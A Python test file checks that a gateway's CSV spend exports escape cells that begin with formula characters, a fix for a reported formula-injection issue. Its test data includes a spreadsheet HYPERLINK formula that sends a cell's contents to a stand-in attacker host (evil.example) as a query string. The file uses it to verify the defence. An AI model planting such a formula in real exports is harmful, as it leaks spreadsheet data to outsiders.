"""Issue 16, Low 5: CSV exports could carry formulas. A model named `=HYPERLINK(…)` came out
of `spend.csv` as a formula a spreadsheet would run. Text cells starting with `=`, `+`, `-`,
`@`, a tab or a carriage return now start with `'` (gateway/csvexport.py, which every CSV
export uses), so spreadsheets show them as text; numbers stay numbers.

Reproduced over HTTP: a model with that name is called through the served gateway, its
ledger record is drained and rolled up, and a manager downloads spend.csv signed in through
the login form.
"""

from __future__ import annotations

import csv
import io
from contextlib import closing

import httpx
import pytest
from django.contrib.auth.models import User

from gateway import ledger
from gateway.csvexport import csv_writer, escape_cell
from tests.factories import make_key, make_model, make_provider, make_team
from tests.processes import requires_postgres, requires_real_redis, wait_for
from tests.security.support import signed_in

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
PASSWORD = "reader-pw-2236"


@requires_postgres
@requires_real_redis
@pytest.mark.django_db(transaction=True)
def test_a_model_named_like_a_formula_is_text_in_spend_csv(gateways):
    User.objects.create_superuser("root", "root@example.com", PASSWORD)
    make_model(FORMULA, make_provider("sim"), upstream_id="small")
    make_model("-2+3", make_provider("sim2"), upstream_id="small")
    _, secret = make_key(make_team("acme"))
    (gateway,) = gateways(1)
    for model in (FORMULA, "-2+3"):
        response = httpx.post(
            gateway.base_url + "/chat/completions",
            json={"model": model, "messages": [{"role": "user", "content": "hi"}]},
            headers={"Authorization": f"Bearer {secret}"},
            timeout=30,
        )
        assert response.status_code == 200, response.text
    wait_for(lambda: ledger.drain() or not ledger.pending(), timeout=10, what="the ledger")

    with closing(signed_in(gateway.url, "root", PASSWORD)) as http:
        response = http.get("/reports/spend.csv?by=model&range=24h")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    column = rows[0].index("model")  # after the bucket and the team
    names = {row[column] for row in rows[1:]}
    assert names == {"'" + FORMULA, "'-2+3"}, rows
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("gpt-4o", "gpt-4o"),
        ("", ""),
        (-5, -5),
    ],
)
def test_escape_cell(cell, written):
    assert escape_cell(cell) == written


def test_every_csv_export_goes_through_the_escaping_writer():
    """No view writes CSV with the bare `csv` module (grep's job, done by the test)."""
    import re
    from pathlib import Path

    bare = re.compile(r"^(import csv|from csv import)\b|csv\.(writer|DictWriter)\(", re.M)
    root = Path(__file__).resolve().parents[2]
    # Not exports: the ledger's archives are read back into a table (COPY FROM), and an
    # escaped cell would change the data. On PostgreSQL they are COPY's own CSV.
    archives = {"gateway/management/commands/pruneledger.py"}
    offenders = [
        str(path.relative_to(root))
        for app in ("gateway", "reports", "budgets", "gatewaysite")
        for path in (root / app).rglob("*.py")
        if path.name != "csvexport.py"
        and str(path.relative_to(root)) not in archives
        and bare.search(path.read_text())
    ]
    assert offenders == []
    out = io.StringIO()
    csv_writer(out).writerow(["=cmd", 3])
    assert out.getvalue() == "'=cmd,3\r\n"
